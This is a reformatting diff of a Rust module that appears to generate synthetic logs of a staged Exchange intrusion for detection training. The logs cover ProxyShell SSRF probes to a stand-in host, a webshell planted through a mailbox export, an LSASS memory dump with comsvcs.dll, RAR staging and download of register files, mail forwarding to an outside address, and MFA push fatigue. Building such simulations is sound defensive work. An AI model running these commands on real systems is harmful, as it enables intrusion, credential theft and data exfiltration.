@@ -7,9 +7,8 @@
 //! webshell is checked in on about monthly, as a long-lived intruder does.
 
 use crate::background::{
-    EXCH_FQDN, EXCH_IP, NETBIOS, Org, cmdlet, evt_path, file_access, httpproxy_header, httpproxy_line, httpproxy_path,
-    iis_header, iis_line, iis_path, msgtrk_header, msgtrk_line, msgtrk_path, okta_line, okta_path, rps_header, rps_line,
-    rps_path, sysmon,
+    EXCH_FQDN, EXCH_IP, NETBIOS, Org, cmdlet, evt_path, file_access, httpproxy_header, httpproxy_line, httpproxy_path, iis_header,
+    iis_line, iis_path, msgtrk_header, msgtrk_line, msgtrk_path, okta_line, okta_path, rps_header, rps_line, rps_path, sysmon,
 };
 use crate::{MINUTE, Output, PlantedStep, Rng, SECOND, at};
 
@@ -83,13 +82,35 @@ pub fn plant(o: &mut Output, org: &Org, rng: &mut Rng) -> Vec<PlantedStep> {
     let t = at("2021-08-24 02:10:17");
     let s = p.step(t, ex, "T1190", "initial-access", "ProxyShell autodiscover.json SSRF probes, refused (HTTP 401)");
     for k in 0..3 {
-        p.iis(t + k * 20 * SECOND, "GET", "/autodiscover/autodiscover.json", "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp", ip1, UA_PY, 401, s);
+        p.iis(
+            t + k * 20 * SECOND,
+            "GET",
+            "/autodiscover/autodiscover.json",
+            "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp",
+            ip1,
+            UA_PY,
+            401,
+            s,
+        );
     }
     let t = at("2021-08-24 02:13:05");
     let s = p.step(t, ex, "T1190", "initial-access", "ProxyShell: SSRF to the Exchange PowerShell backend succeeded (HTTP 200)");
     let q = "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCAAAAEFkbWluaXN0cmF0b3JAZWxlY3RvcmFsY29tbWlzc2lvbi5leGFtcGxl&Email=autodiscover/autodiscover.json%3F@evil.corp";
     p.iis(t, "POST", "/autodiscover/autodiscover.json", q, ip1, UA_PY, 200, s);
-    let line = httpproxy_line(p.rng, t, "Autodiscover", "/powershell", q, "", "ServerInfo~a]@EXCH01.ec.local:444/powershell/?X-Rps-CAT=VgEAVAdX", UA_PY, ip1, 200, "POST", "ServerInfo-Header");
+    let line = httpproxy_line(
+        p.rng,
+        t,
+        "Autodiscover",
+        "/powershell",
+        q,
+        "",
+        "ServerInfo~a]@EXCH01.ec.local:444/powershell/?X-Rps-CAT=VgEAVAdX",
+        UA_PY,
+        ip1,
+        200,
+        "POST",
+        "ServerInfo-Header",
+    );
     p.o.text(&httpproxy_path(t, "Autodiscover"), &httpproxy_header(t), t, line, Some(s));
     let line = rps_line(p.rng, t + SECOND, "NT AUTHORITY\\SYSTEM", ip1, 200, UA_PY, "New-ManagementRoleAssignment", "X-Rps-CAT=VgEAVAdX");
     p.o.text(&rps_path(t), &rps_header(t), t + SECOND, line, Some(s));
@@ -99,9 +120,20 @@ pub fn plant(o: &mut Output, org: &Org, rng: &mut Rng) -> Vec<PlantedStep> {
     p.cmdlet(t, "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"Administrator\"", s);
 
     let t = at("2021-08-24 02:15:30");
-    let s = p.step(t, ex, "T1505.003", "persistence", "Webshell planted by exporting a mailbox to \\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\Xml.aspx");
+    let s = p.step(
+        t,
+        ex,
+        "T1505.003",
+        "persistence",
+        "Webshell planted by exporting a mailbox to \\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\Xml.aspx",
+    );
     p.cmdlet(t, "New-MailboxExportRequest", "-Mailbox \"administrator@electoralcommission.example\" -FilePath \"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\Xml.aspx\" -IncludeFolders \"#Drafts#\" -ContentFilter \"(Subject -eq 'Xml')\"", s);
-    p.sysmon(t + 40 * SECOND, 11, &[("RuleName", "-"), ("Image", MRS), ("TargetFilename", SHELL_FILE), ("User", "NT AUTHORITY\\SYSTEM")], s);
+    p.sysmon(
+        t + 40 * SECOND,
+        11,
+        &[("RuleName", "-"), ("Image", MRS), ("TargetFilename", SHELL_FILE), ("User", "NT AUTHORITY\\SYSTEM")],
+        s,
+    );
 
     let t = at("2021-08-24 02:16:45");
     let s = p.step(t, ex, "T1070", "defense-evasion", "Mailbox export request removed to hide the webshell's origin");
@@ -160,8 +192,22 @@ pub fn plant(o: &mut Output, org: &Org, rng: &mut Rng) -> Vec<PlantedStep> {
     }
     let t = at("2022-03-14 01:22:03");
     let s = p.step(t, ex, "T1003.001", "credential-access", "LSASS memory dumped with comsvcs.dll MiniDump");
-    p.shell_cmd(t, &chopper("C:\\Users\\Public", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 632 C:\\Users\\Public\\lsass.dmp full"), s);
-    p.sysmon(t + 3 * SECOND, 11, &[("RuleName", "-"), ("Image", "C:\\Windows\\System32\\rundll32.exe"), ("TargetFilename", "C:\\Users\\Public\\lsass.dmp"), ("User", "NT AUTHORITY\\SYSTEM")], s);
+    p.shell_cmd(
+        t,
+        &chopper("C:\\Users\\Public", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 632 C:\\Users\\Public\\lsass.dmp full"),
+        s,
+    );
+    p.sysmon(
+        t + 3 * SECOND,
+        11,
+        &[
+            ("RuleName", "-"),
+            ("Image", "C:\\Windows\\System32\\rundll32.exe"),
+            ("TargetFilename", "C:\\Users\\Public\\lsass.dmp"),
+            ("User", "NT AUTHORITY\\SYSTEM"),
+        ],
+        s,
+    );
     let t = at("2022-03-14 04:40:11");
     let s = p.step(t, ex, "T1190", "initial-access", "ProxyShell exploited again, from another actor's address");
     let q = "@fuzz.local/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCAAAAGFkbWlu&Email=autodiscover/autodiscover.json%3F@fuzz.local";
@@ -169,7 +215,8 @@ pub fn plant(o: &mut Output, org: &Org, rng: &mut Rng) -> Vec<PlantedStep> {
 
     // 13 Jun 2022: registers staged in the web root and taken.
     let t = at("2022-06-13 00:41:07");
-    let s = p.step(t, "FS01", "T1039", "collection", "Register exports on \\\\FS01\\Registers read from the Exchange server as Administrator");
+    let s =
+        p.step(t, "FS01", "T1039", "collection", "Register exports on \\\\FS01\\Registers read from the Exchange server as Administrator");
     for (k, f) in crate::register::FILES.iter().enumerate() {
         file_access(p.o, t + k as i64 * 2 * SECOND, "administrator", EXCH_IP, f, Some(s));
     }
@@ -177,7 +224,17 @@ pub fn plant(o: &mut Output, org: &Org, rng: &mut Rng) -> Vec<PlantedStep> {
     let s = p.step(t, ex, "T1560.001", "collection", "Register exports archived with RAR into the web root");
     p.iis(t - 3 * SECOND, "POST", SHELL, "", "94.140.8.48", "Mozilla/5.0", 200, s);
     p.shell_cmd(t, &chopper("C:\\PerfLogs", "c:\\perflogs\\rar.exe a -hpE1ect0r C:\\inetpub\\wwwroot\\aspnet_client\\r.rar \\\\FS01\\Registers\\2021 \\\\FS01\\Registers\\2022"), s);
-    p.sysmon(t + 30 * SECOND, 11, &[("RuleName", "-"), ("Image", "c:\\perflogs\\rar.exe"), ("TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\r.rar"), ("User", "NT AUTHORITY\\SYSTEM")], s);
+    p.sysmon(
+        t + 30 * SECOND,
+        11,
+        &[
+            ("RuleName", "-"),
+            ("Image", "c:\\perflogs\\rar.exe"),
+            ("TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\r.rar"),
+            ("User", "NT AUTHORITY\\SYSTEM"),
+        ],
+        s,
+    );
     let t = at("2022-06-13 00:52:58");
     let s = p.step(t, ex, "T1041", "exfiltration", "The archive downloaded from the web root");
     p.iis(t, "GET", "/aspnet_client/r.rar", "", "94.140.8.48", "Wget/1.21", 200, s);
@@ -187,7 +244,12 @@ pub fn plant(o: &mut Output, org: &Org, rng: &mut Rng) -> Vec<PlantedStep> {
     let s = p.step(t, ex, "T1114.003", "collection", "Inbox rule forwarding the chief executive's mail outside");
     p.iis(t - 10 * SECOND, "POST", SHELL, "", "185.220.101.182", "Mozilla/5.0", 200, s);
     p.cmdlet(t, "New-InboxRule", "-Mailbox \"chief.executive\" -Name \"Archive\" -ForwardTo \"records@mail-archive.example\" -From \"press@electoralcommission.example\"", s);
-    p.cmdlet(t + MINUTE, "Set-Mailbox", "-Identity \"chief.executive\" -ForwardingSmtpAddress \"records@mail-archive.example\" -DeliverToMailboxAndForward $true", s);
+    p.cmdlet(
+        t + MINUTE,
+        "Set-Mailbox",
+        "-Identity \"chief.executive\" -ForwardingSmtpAddress \"records@mail-archive.example\" -DeliverToMailboxAndForward $true",
+        s,
+    );
 
     // October 2022: ten MFA prompts in under a minute give it away.
     let t = at("2022-10-11 19:26:00");
@@ -195,7 +257,15 @@ pub fn plant(o: &mut Output, org: &Org, rng: &mut Rng) -> Vec<PlantedStep> {
     let victim = &org.users[3];
     for k in 0..10 {
         let ts = t + k * 5 * SECOND;
-        let line = okta_line(p.rng, ts, "system.push.send_factor_verify_push", "A push verification was sent", victim, "185.220.101.182", "SUCCESS");
+        let line = okta_line(
+            p.rng,
+            ts,
+            "system.push.send_factor_verify_push",
+            "A push verification was sent",
+            victim,
+            "185.220.101.182",
+            "SUCCESS",
+        );
         p.o.text(&okta_path(ts), &[], ts, line, Some(s));
     }
     let _ = NETBIOS;
